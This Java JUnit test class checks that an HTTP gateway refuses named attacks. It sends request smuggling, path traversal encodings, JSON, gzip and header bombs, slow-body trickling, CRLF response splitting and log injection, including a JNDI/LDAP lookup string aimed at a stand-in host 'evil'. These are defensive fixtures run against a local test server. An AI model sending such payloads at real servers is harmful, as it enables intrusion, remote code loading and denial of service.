package dev.trellis.routing.gateway;

import static dev.trellis.routing.gateway.GatewayFixture.json;
import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.trellis.client.Call;
import dev.trellis.lattice.Payload;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/// Attacks on HTTP servers that are known by name.
@Timeout(60)
class HttpAttackTest {
  private static final byte[] NOTHING = new byte[0];

  private final ListAppender<ILoggingEvent> logged = new ListAppender<>();
  private GatewayFixture gateway;

  @BeforeEach
  void start() {
    gateway = new GatewayFixture();
    logged.start();
    ((Logger) LoggerFactory.getLogger("ROOT")).addAppender(logged);
  }

  @AfterEach
  void stop() {
    ((Logger) LoggerFactory.getLogger("ROOT")).detachAppender(logged);
    gateway.close();
  }

  /// All that comes until the gateway closes.
  private String exchange(String request) throws IOException {
    try (Socket socket = new Socket(gateway.address.getAddress(), gateway.address.getPort())) {
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(request.getBytes(ISO_8859_1));
      return new String(socket.getInputStream().readAllBytes(), ISO_8859_1);
    }
  }

  /// Request smuggling: a proxy before the gateway may see one request where this sees two.
  @ParameterizedTest
  @MethodSource("dev.trellis.process.http.Smuggling#shapes")
  void whatTwoServersMightUnderstandDifferentlyIsRefusedAndNothingBehindItIsDone(String rest)
      throws IOException {
    String answers =
        exchange(
            "PUT /v1/keys/a HTTP/1.1\r\nHost: x\r\n"
                + rest
                + "PUT /v1/keys/smuggled HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n");
    assertTrue(answers.startsWith("HTTP/1.1 400 ") || answers.startsWith("HTTP/1.1 411 "), answers);
    assertEquals(1, answers.lines().filter(line -> line.startsWith("HTTP/1.1 ")).count(), answers);
    assertEquals(404, gateway.get("/v1/keys/smuggled").status());
  }

  /// Chunk extensions are legal: they are read over, and do not move the end of the body.
  @Test
  void extensionsOfChunksAreReadOver() {
    try (RawHttp http = new RawHttp(gateway.address)) {
      http.send("PUT /v1/keys/a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n");
      http.send("3;x=\"4\";y\r\nabc\r\n0;z\r\nContent-Length: 9\r\n\r\n");
      assertEquals(200, http.receive(false).status());
      assertEquals("abc", http.request("GET", "/v1/keys/a", NOTHING).text());
    }
  }

  @Test
  void anExtensionWithoutEndIsGivenUp() throws IOException {
    String answer =
        exchange(
            "PUT /v1/keys/a HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3;x="
                + "y".repeat(200_000));
    assertTrue(answer.startsWith("HTTP/1.1 4"), answer);
  }

  /// There is one site here, whatever name it is called by: nothing is chosen by host.
  @Test
  void aTargetWithAnotherHostIsThePathInIt() {
    gateway.put("/v1/keys/a", "here");
    try (RawHttp http = new RawHttp(gateway.address)) {
      assertEquals("here", http.request("GET", "http://evil/v1/keys/a", NOTHING).text());
      assertEquals(400, http.request("GET", "evil:80", NOTHING).status());
      assertEquals(400, http.request("GET", "ftp://evil/v1/keys/a", NOTHING).status());
      assertEquals(400, http.request("OPTIONS", "*", NOTHING).status());
    }
  }

  /// A key is what stands in its segment, decoded once. Nothing is normalised, so there is no way
  /// up and none out of a prefix.
  @ParameterizedTest
  @CsvSource({
    "%2e%2e, ..",
    "shop%2f..%2fbank, shop/../bank",
    "shop%2F%2e%2e%2Fbank, shop/../bank",
    "%252e%252e, %2e%2e",
    "shop%252fa, shop%2fa",
    "a%00b, a\0b",
    "%e2%80%ae, \u202e",
    "a;b=c, a;b=c",
    "a+b, a+b",
    "_trellis%2faccess, _trellis/access",
    "%5Ftrellis%2Faccess, _trellis/access",
    "..%5c..%5cwindows, ..\\..\\windows",
  })
  void aKeyIsDecodedOnceAndThatIsWhatIsAskedFor(String written, String key) {
    List<Payload> asked = new ArrayList<>();
    gateway.store.script(
        call -> {
          asked.add(call.key());
          return CompletableFuture.failedFuture(new IllegalStateException("enough"));
        });
    gateway.get("/v1/keys/" + written);
    assertEquals(List.of(Payload.ofText(key)), asked);
  }

  @ParameterizedTest
  @CsvSource({
    "/v1/keys/a/../b, 404",
    "/v1/keys/../keys/a, 404",
    "/v1/keys/./a, 404",
    "/v1//keys/a, 404",
    "//v1/keys/a, 404",
    "/v1/keys//a, 404",
    "/v1/keys/%c0%af, 400",
    "/v1/keys/%c0%ae%c0%ae, 400",
    "/v1/keys/%e0%80%af, 400",
    "/v1/keys/%f0%80%80%af, 400",
    "/v1/keys/%ed%a0%80, 400",
    "/v1/keys/%f4%90%80%80, 400",
    "/v1/keys/%u002e, 400",
    "/v1/keys/a%, 400",
    "/v1/keys/a%0, 400",
    "/%761/keys/a/../../cluster, 404",
  })
  void pathsThatAreNoneAreNotMadeOne(String path, int status) {
    List<Call> asked = new ArrayList<>();
    gateway.store.script(
        call -> {
          asked.add(call);
          return CompletableFuture.failedFuture(new IllegalStateException("enough"));
        });
    assertEquals(status, gateway.get(path).status());
    assertEquals(List.of(), asked);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"by\": 1e400000000}",
        "{\"by\": -1e-400000000}",
        "{\"by\": 1E+2147483648}",
        "{\"by\": 00001}",
        "{\"by\": 0x10}",
        "{\"by\": NaN}",
        "{\"by\": 1, \"\\u0062y\": 2}",
        "{\"by\": 1}\0",
        "\ufeff{\"by\": 1}x",
        "{\"by\": 1} // nothing",
        "{'by': 1}",
      })
  void numbersAndNamesOfJsonThatMeanSeveralThingsAreRefused(String document) {
    RawHttp.Response refused = gateway.post("/v1/keys/a/add", document);
    assertEquals(400, refused.status(), refused::text);
    assertEquals(404, gateway.get("/v1/keys/a").status());
  }

  @Test
  void bombsOfJsonAreRefusedWithoutBeingUnpacked() {
    List<String> bombs =
        List.of(
            "{\"by\":" + "9".repeat(1_000_000) + "}",
            "{\"by\":1e" + "9".repeat(1_000_000) + "}",
            "{\"by\":0." + "9".repeat(1_000_000) + "}",
            "{\"" + "n".repeat(1_000_000) + "\":1}",
            "[".repeat(1_000_000),
            "{\"a\":".repeat(500_000),
            "[" + "[],".repeat(1_500_000) + "[]]",
            "{\"by\":\"" + "\\u0000".repeat(1_000_000) + "\"}");
    for (String bomb : bombs) {
      RawHttp.Response refused = gateway.post("/v1/keys/a/add", bomb);
      assertEquals(400, refused.status(), bomb.substring(0, 20));
      assertTrue(refused.text().length() < 2_000, () -> "an answer of " + refused.text().length());
    }
    gateway.awaitMemoryGivenBack();
    assertEquals(404, gateway.get("/v1/keys/a").status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"gzip", "deflate", "br", "zstd", "x-gzip", "gzip, identity", "GZIP"})
  void whatIsCompressedIsNotUnpacked(String coding) throws IOException {
    ByteArrayOutputStream bomb = new ByteArrayOutputStream();
    try (GZIPOutputStream zip = new GZIPOutputStream(bomb)) {
      zip.write(new byte[8 << 20]);
    }
    for (String target : List.of("/v1/keys/a", "/v1/keys/a/add", "/v1/batch")) {
      RawHttp.Response refused =
          RawHttp.exchange(
              gateway.address,
              target.equals("/v1/keys/a") ? "PUT" : "POST",
              target,
              bomb.toByteArray(),
              "Content-Type: application/json",
              "Content-Encoding: " + coding);
      assertEquals(415, refused.status());
      assertEquals("MEDIA_TYPE_UNSUPPORTED", json(refused).get("code").textValue());
    }
    String packed = "identity\r\nContent-Encoding: gzip";
    assertEquals(
        415,
        RawHttp.exchange(
                gateway.address,
                "PUT",
                "/v1/keys/a",
                bomb.toByteArray(),
                "Content-Encoding: " + packed)
            .status(),
        "also where another coding stands first");
    assertEquals(404, gateway.get("/v1/keys/a").status());
  }

  @Test
  void headerBombsAreRefused() throws IOException {
    for (String bomb :
        List.of(
            "A: b\r\n".repeat(100_000),
            "A: " + "b".repeat(1_000_000),
            "A".repeat(1_000_000) + ": b\r\n",
            "Cookie: " + "a=b; ".repeat(200_000) + "\r\n")) {
      String answer;
      try {
        answer = exchange("GET /v1/keys/a HTTP/1.1\r\nHost: x\r\n" + bomb + "\r\n");
      } catch (IOException reset) {
        continue; // it went before the bomb was there whole
      }
      assertTrue(answer.startsWith("HTTP/1.1 431 "), answer);
    }
  }

  /// What stands in a log is read by people and programs that trust lines to be ours.
  @Test
  void nothingThatComesFromOutsideEndsALineOfTheLog() {
    String line = "2026-01-01T00:00:00Z ERROR [main] forged";
    gateway.store.script(
        call -> CompletableFuture.failedFuture(new IllegalStateException("key " + call.key())));
    gateway.get("/v1/keys/a%0d%0a" + line.replace(" ", "%20") + "%1b%5b2J");
    gateway.store.heal();
    gateway.get(
        "/v1/keys/a?generation=%0d%0a" + line.replace(" ", "%20"),
        "X-Forwarded-For: " + line,
        "User-Agent: ${jndi:ldap://evil/a}\t" + line);
    gateway.get("/v1/keys/a", "Trellis-Session: \u0085" + line);
    for (ILoggingEvent event : logged.list) {
      String text =
          event.getFormattedMessage()
              + (event.getThrowableProxy() == null ? "" : event.getThrowableProxy().getMessage());
      assertFalse(text.contains("\n") || text.contains("\r") || text.contains("\u001b"), text);
    }
  }

  /// A header of an answer never has more lines than one, whatever the request said.
  @Test
  void nothingThatIsAskedForSplitsAnAnswer() {
    for (String target :
        List.of(
            "/v1/keys/a%0d%0aSet-Cookie:%20x=y",
            "/v1/keys?cursor=%0d%0aSet-Cookie:%20x=y",
            "/v1/keys/a?kind=%0d%0aSet-Cookie:%20x=y",
            "/v1/keys/a/x%0d%0aSet-Cookie:%20x=y")) {
      RawHttp.Response answer = gateway.get(target);
      assertFalse(answer.header("Set-Cookie").isPresent(), target);
      assertTrue(answer.status() == 400 || answer.status() == 404, target);
    }
  }

  /// A body that trickles in has as long as any other, however busily it does.
  @Test
  void aBodyThatTricklesInIsGivenUp() {
    gateway.close();
    gateway =
        new GatewayFixture(
            new GatewayFixture.Terms().bodyTimeout(java.time.Duration.ofMillis(500)));
    try (RawHttp http = new RawHttp(gateway.address)) {
      http.send("PUT /v1/keys/a HTTP/1.1\r\nContent-Length: 10000000\r\n");
      http.send("\r\n");
      assertThrows(
          UncheckedIOException.class,
          () -> {
            while (true) {
              http.send("x".getBytes(UTF_8));
              Thread.onSpinWait();
            }
          });
    }
    gateway.awaitMemoryGivenBack();
    assertEquals(404, gateway.get("/v1/keys/a").status());
  }

  @Test
  void whoSpeaksTlsToAPlainPortIsTurnedAwayAtOnce() throws IOException {
    try (Socket socket = new Socket(gateway.address.getAddress(), gateway.address.getPort())) {
      socket.setSoTimeout(20_000);
      socket.getOutputStream().write(new byte[] {22, 3, 1, 2, 0, 1, 0, 1, (byte) 0xfc, 3, 3});
      byte[] alert = socket.getInputStream().readAllBytes();
      assertEquals(Payload.of(new byte[] {21, 3, 3, 0, 2, 2, 40}), Payload.of(alert));
    }
  }
}
